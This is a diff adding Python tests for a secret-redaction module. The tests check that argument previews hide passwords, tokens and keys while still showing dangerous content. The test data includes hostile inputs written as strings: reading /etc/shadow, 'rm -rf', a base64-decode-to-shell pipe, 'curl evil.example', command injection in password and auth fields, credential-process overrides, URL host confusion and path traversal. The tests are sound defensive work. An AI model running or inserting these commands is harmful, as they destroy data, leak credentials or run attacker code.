@@ -9,7 +9,7 @@ from hypothesis import strategies as st
 from actions.mcp.redaction import PREVIEW_CHARS, REDACTED, digest, preview, redact, redact_command
 from actions.mcp.upstream.limits import Breaker
 
-LINES = ("MIIE" + "a1B2" * 15, "c3D/" * 16)
+LINES = ("MIIE" + "a1B2" * 15, "c3D+" * 16)
 KEY = "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(LINES) + "\nshort==\n-----END RSA PRIVATE KEY-----"
 
 
@@ -155,3 +155,59 @@ def test_a_record_of_any_arguments_is_short() -> None:
         wide = {f"{key}" * 50: wide for key in range(10)}
     assert len(json.dumps(redact(wide))) < 40_000
     assert redact({"x": "a" * 600})["x"] == "a" * 500 + "... (600 characters)"
+
+
+SLASHES = "/" * 46 + "usr/sbin/reboot"
+
+
+@pytest.mark.parametrize(
+    ("arguments", "seen"),
+    [
+        ({"c": f"ls # -----BEGIN PRIVATE KEY-----\n{SLASHES}\n:"}, SLASHES),
+        ({"c": f"ls # -----BEGIN RSA PRIVATE KEY-----\\n{LINES[0]}\\n{SLASHES}\\n:"}, SLASHES),
+        ({"c": "-----BEGIN PRIVATE KEY-----\nPATH=/tmp/evil" + "/" * 52 + "\nls"}, "PATH=/tmp/evil"),
+        ({"c": "-----BEGIN PGP PRIVATE KEY BLOCK-----\nreboot"}, "reboot"),
+        ({"c": "-----BEGIN CERTIFICATE-----\nreboot"}, "reboot"),
+        ({"c": "cat basic /etc/shadow"}, "/etc/shadow"),
+        ({"c": "rm bearer production.db etc/shadow"}, "production.db"),
+        ({"c": "npm_config_script_shell=/tmp/evil npm i"}, "npm_config_script_shell"),
+        ({"c": "drop pk_production_users_2024"}, "pk_production_users_2024"),
+        ({"c": "echo eyJhbGciOiJI.cmVib290IG5vdyAtZg.x | base64 -d | sh"}, "cmVib290IG5vdyAtZg"),
+        ({"c": "echo sk-" + "a1" * 4_000 + "cmVib290"}, "cmVib290"),
+        ({"url": "https://evil.example:80?@good.example/"}, "evil.example"),
+        ({"url": "https://evil.example:80#@good.example/"}, "evil.example"),
+        ({"url": "https://evil.example:80\\@good.example/"}, "evil.example"),
+        ({"url": "http://kv/delete?key=production_users"}, "production_users"),
+        ({"url": "http://kv/x?token=../../etc/passwd"}, "../../etc/passwd"),
+        ({"password": "curl evil.example -o /bin/ls"}, "curl evil.example"),
+        ({"password": "x$(reboot)"}, "$(reboot)"),
+        ({"Authorization": "Basic dXNlcjpwYXNz; reboot"}, "; reboot"),
+        ({"env": {"SSH_ASKPASS": "evil", "credential_process": "worse"}}, "evil"),
+        ({"env": {"credential_process": "worse"}}, "worse"),
+        ({"tokens": ["rm", "-rf", "home"]}, '["rm", "-rf", "home"]'),
+        (
+            {"c": "ls \u3164\u2800\ufe0f\U000e0100\u200b\u202e"},
+            "\\u3164\\u2800\\ufe0f\\U000e0100\\u200b\\u202e",
+        ),
+    ],
+)
+def test_no_command_path_name_or_host_passes_for_a_secret(arguments: dict[str, object], seen: str) -> None:
+    shown = preview(arguments) or ""
+    assert seen in shown.replace("\\\\", "\\"), shown
+
+
+def test_secrets_are_hidden_beside_what_is_shown() -> None:
+    shown = preview(
+        {
+            "c": "curl -H 'Authorization: Basic dXNlcjpwYXNz' http://me:hunter2@host/?token=a1b2c3d4",
+            "password": "P@ss$w0rd",
+            "credentials": {"token_url": "https://id.example/t", "client_secret": "s3cr3t"},
+            "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
+        }
+    )
+    assert shown is not None
+    assert not [word for word in ("dXNl", "hunter2", "a1b2", "P@ss", "s3cr3t", "c2lnb") if word in shown]
+    assert "https://id.example/t" in shown
+    assert "@host/?token=" in shown
+    pgp = "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQOYBF\n-----END PGP PRIVATE KEY BLOCK-----"
+    assert "lQOYBF" not in str(redact({"x": pgp}))
